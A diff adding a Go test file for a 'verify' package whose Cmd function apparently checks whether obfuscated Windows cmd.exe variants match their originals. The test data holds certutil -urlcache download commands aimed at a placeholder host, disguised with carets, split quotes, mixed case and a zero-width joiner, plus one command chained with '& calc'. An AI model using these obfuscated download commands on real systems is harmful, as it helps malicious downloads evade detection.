@@ -0,0 +1,48 @@
+package verify
+
+import (
+	"errors"
+	"strings"
+	"testing"
+)
+
+func TestCmd(t *testing.T) {
+	tests := []struct {
+		name              string
+		original, variant string
+		want              string // substring of the mismatch; empty: none
+	}{
+		{"carets", `certutil -urlcache -f https://x/a a`, `c^e^r^t^u^t^i^l -u^r^l^c^a^c^h^e -f https://x/a a`, ""},
+		{"quotes", `certutil -f "C:\a b\c"`, `ce"r"tutil -f "C:\a b"\c`, ""},
+		{"case", `certutil -urlcache`, `CeRtUtIl -URLcache`, ""},
+		{"variables", `certutil -f %TEMP%\a`, `certutil -f %TEMP%\^a`, ""},
+		{"escaped ampersand", `certutil -f https://x/?a=1^&b=2`, `certutil -f https://x/?a=1^&b=2`, ""},
+		{"broken quote", `certutil -f "a b"`, `certutil -f "a" b"`, "command 1 has"},
+		{"caret in quotes", `certutil -f "C:\ab"`, `certutil -f "C:\a^b"`, "word 3 of command 1"},
+		{"caret in variable", `certutil -f %TEMP%\a`, `certutil -f %T^EMP%\a`, "word 3 of command 1"},
+		{"unescaped ampersand", `certutil -f https://x/?a=1^&b=2`, `certutil -f https://x/?a=1&b=2`, `unescaped "&"`},
+		{"joiner", `certutil -f x`, "cert\u200dutil -f x", `word 1 of command 1 is "cert\u200dutil"`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := Cmd(tt.original, tt.variant)
+			if tt.want == "" {
+				if err != nil {
+					t.Errorf("Cmd = %v, want nil", err)
+				}
+				return
+			}
+			var m *Mismatch
+			if !errors.As(err, &m) || !strings.Contains(m.Reason, tt.want) {
+				t.Errorf("Cmd = %v, want a mismatch containing %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestCmdOriginal(t *testing.T) {
+	var m *Mismatch
+	if err := Cmd(`certutil -f x & calc`, `certutil -f x`); err == nil || errors.As(err, &m) {
+		t.Errorf("Cmd = %v, want an error about the original", err)
+	}
+}